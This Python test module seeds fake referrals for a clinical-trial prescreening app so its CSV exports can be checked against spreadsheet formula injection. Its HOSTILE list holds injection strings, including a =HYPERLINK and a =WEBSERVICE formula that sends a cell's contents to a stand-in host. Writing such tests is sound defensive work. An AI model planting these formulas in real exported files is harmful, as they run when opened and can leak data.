"""Files of referrals as the exports write them, and people whose every text is hostile."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from fractions import Fraction
from typing import Any
from uuid import UUID

from sqlalchemy import insert, update

from prescreen.database import Database
from prescreen.eligibility.assessment.answers import Answer, Answers
from prescreen.eligibility.assessment.determination import Determination
from prescreen.eligibility.criteria.dates import PartialDate
from prescreen.eligibility.criteria.questions import QuestionBank
from prescreen.eligibility.criteria.trials import Trial
from prescreen.eligibility.criteria.truth import Truth
from prescreen.export.columns.table import HEADER, chosen
from prescreen.export.formats import Source, chunks
from prescreen.export.redcap_fields.criteria import Criteria
from prescreen.storage.base.keys import Keys
from prescreen.storage.export.csv_copy import FORMULA_SIGNS, FORMULA_STARTS, SEPARATORS, SKIPPED
from prescreen.storage.participants.consents import GivenBy, Purpose, StoredConsent
from prescreen.storage.referrals.referrals import FindingRecord, State, StoredReferral
from prescreen.storage.tables import Consent, Lead, Referral, ReferralTag
from prescreen.workflow.export.referral_rows import Format, ReferralRow, Wanted
from prescreen.workflow.participants import data_subject_rights
from tests.people import ANSWERS, CONTACT, FUTURE, LATER, NOW, PHONE, SHARE_A, TO_A, submitted

TRIAL = "NCT00000001"
HOSTILE = (
    *(f"{start}1+1" for start in FORMULA_STARTS.strip("\0")),
    "   =1+1",
    '=HYPERLINK("http://x.example","y")',
    "@SUM(1,2)",
    "'quoted",
    'a "b", c',
    "a\nb\r\nc",
    "a\rb",
    r"\.",
    r"a\b",
    "Zoë 👩‍⚕️ 李",
    ",",
    '"',
    "+1 617 555 0100",
    "+16175550100 ext. 204",
    "_x0041_ & <b>",
    *(f"Zed{separator}=1+1{separator}" for separator in SEPARATORS),
    *(f"Zed; {sign}1+1;" for sign in FORMULA_SIGNS),
    'a;=WEBSERVICE("http://x.example/"&B2);',
    'b;"=1+1";',
    'c;""=1+1"";',
    ';"=1+1',
    ";;=1+1",
    "d,\t \u00a0=1+1\t",
    "'=1+1",
    "e;'=1+1;",
    "f; '=1+1;",
    '"=1+1;',
)

REFERRAL = StoredReferral(
    id=UUID(int=7),
    lead_id=UUID(int=8),
    reference="LP-7K3F-2M",
    is_test=True,
    trial_id=TRIAL,
    site_id="leeds",
    site_name="Leeds, General",
    state=State.NEW,
    determination=Determination.POTENTIALLY_ELIGIBLE,
    findings=TO_A.findings,
    still_to_check=(),
    question_ids=(),
    fingerprint="a" * 64,
    version=1,
    created_at=datetime(2026, 11, 23, 9, 30, tzinfo=UTC),
    withdrawn_at=None,
    miles=12,
    due_at=datetime(2026, 11, 28, 9, 30, 0, 999_999, tzinfo=UTC),
)
STATES = tuple(state for state in State if state is not State.WITHDRAWN)
ENDED = "a version that was withdrawn"


def consent(purpose: Purpose, by: GivenBy = GivenBy.SELF) -> StoredConsent:
    """Return a consent in force, for no trial in particular."""
    return StoredConsent(purpose, None, None, "2026-11", "", "en", NOW, None, by)


ROW = ReferralRow(
    REFERRAL,
    language="en",
    contact=CONTACT,
    agreed=(consent(Purpose.EMAIL), consent(Purpose.PHONE), consent(Purpose.SHARE)),
    answers=ANSWERS,
    tags=("call after six", "Spanish"),
)
WITHDRAWN = replace(ROW, referral=replace(REFERRAL, state=State.WITHDRAWN, determination=None, withdrawn_at=LATER))


def as_typed(cell: str) -> str:
    """Return a text as it was before the export guarded it, by the rule that `docs/desk.md` gives to programs."""
    text = re.sub(f"^'(?='*[{SKIPPED}]*[{FORMULA_STARTS}])", "", cell)
    return re.sub(f"([{SEPARATORS}])'(?='*[{SKIPPED}]*[{FORMULA_SIGNS}])", r"\1", text)


def wanted(form: Format = Format.CSV, **changes: Any) -> Wanted:
    """Return an export of everything, with the given changes."""
    with_identity = changes.pop("with_identity", True)
    columns = chosen(changes.pop("columns", HEADER), with_identity=with_identity)
    return replace(Wanted(TRIAL, form, columns, with_identity, "for a test"), **changes)


def made(
    database: Database, keys: Keys, what: Wanted, bank: QuestionBank | None = None, trial: Trial | None = None
) -> bytes:
    """Return the whole file."""
    source = Source(database, keys, Criteria(trial, bank or QuestionBank({}), {}))
    return b"".join(chunk.data for chunk in chunks(source, what))


def hostile_people(database: Database, keys: Keys) -> None:
    """Refer people whose names, answers, tags and all other texts are hostile; one withdrew, and one asked twice."""
    for number, word in enumerate(HOSTILE):
        to_a = replace(
            TO_A,
            site_name=word,
            findings=(_finding(word, tuple(Truth)[number % len(Truth)]), TO_A.findings[1], *_of_cohorts(number, word)),
            question_ids=(word, *ANSWERS.given),
            miles=number,
        )
        given = {
            word: Answer(word, NOW.date()),
            "options": Answer(frozenset({word, "b", "a"}), NOW.date()),
            "day": Answer(PartialDate.parse("2026-03-27"), NOW.date()),
            "month": Answer(PartialDate.parse("2026-03"), NOW.date()),
            "nothing": Answer(frozenset({""}), NOW.date()),
            **{name: Answer(Fraction(text), NOW.date()) for name, text in _NUMBERS.items()},
        }
        who = submitted(
            database,
            keys,
            id=str(number),
            contact=replace(CONTACT, name=word, best_time=word, phone=None if number % 2 else word),
            consents=(*_consents(number, word), SHARE_A, PHONE, FUTURE),
            referrals=(
                replace(to_a, question_ids=(*to_a.question_ids, *_NUMBERS, "options", "day", "month", "nothing")),
            ),
            answers=Answers({**ANSWERS.given, **given}),
            submitted_at=NOW + timedelta(seconds=number, microseconds=number * 7),
        )
        state, determination = (words[number % len(words)] for words in (STATES, tuple(Determination)))
        _work(database, who.lead_id, word, state=state.value, determination=determination.value)
    gone = submitted(database, keys, id="gone", consents=(SHARE_A, PHONE), referrals=(TO_A,))
    _work(database, gone.lead_id, "gone")
    with database.writing() as session:
        data_subject_rights.withdraw(session, gone.lead_id, None, LATER)


_NUMBERS = {
    "n1": "1/3",
    "n2": "-7/8",
    "n3": "123456789012345678901234567890123/1000",
    "n4": "1/1000000000000000000000000000000",
    "n5": "-12",
    "n6": "0",
    "n7": f"1/1{'0' * 61}",
}


def _finding(criterion: str, permits: Truth) -> FindingRecord:
    return {**TO_A.findings[0], "criterion": criterion, "permits": permits.value}


def _of_cohorts(number: int, word: str) -> Iterator[FindingRecord]:
    """Yield findings of three cohorts in an order that is not that of their ids, some of which do not permit."""
    for place, cohort in enumerate((word, "b", "a", word)):
        truth = tuple(Truth)[(number // (place + 2)) % len(Truth)]
        yield FindingRecord(**_finding(f"{cohort}{place}", truth), cohort=cohort)


def _consents(number: int, word: str) -> tuple[Any, ...]:
    elsewhere = replace(SHARE_A, trial_id="NCT00000002", version="elsewhere")
    ended = replace(PHONE, purpose=Purpose.TEXT, version=ENDED)
    by = tuple(GivenBy)[number % len(GivenBy)]
    some = tuple(Purpose)[: number % (len(Purpose) + 1)]
    own = (replace(PHONE, purpose=one, version=word, given_by=by) for one in some)
    return (elsewhere, ended, *own, replace(PHONE, version=word, given_by=by), replace(PHONE, version="2026-10"))


def _work(database: Database, lead_id: UUID, word: str, **judged: str) -> None:
    with database.writing() as session:
        session.execute(update(Consent).where(Consent.version == ENDED).values(withdrawn_at=LATER))
        session.execute(update(Lead).where(Lead.id == lead_id).values(language=word))
        referral = update(Referral).where(Referral.lead_id == lead_id).returning(Referral.id)
        later = NOW + timedelta(microseconds=999_999)
        values = {"reason": word, "contacted_at": later, "due_at": LATER, "state_changed_at": LATER, **judged}
        (referral_id,) = session.scalars(referral.values(**values)).all()
        tags = [{"referral_id": referral_id, "tag": tag} for tag in {word, "b", "Z", "ä"}]
        session.execute(insert(ReferralTag), tags)
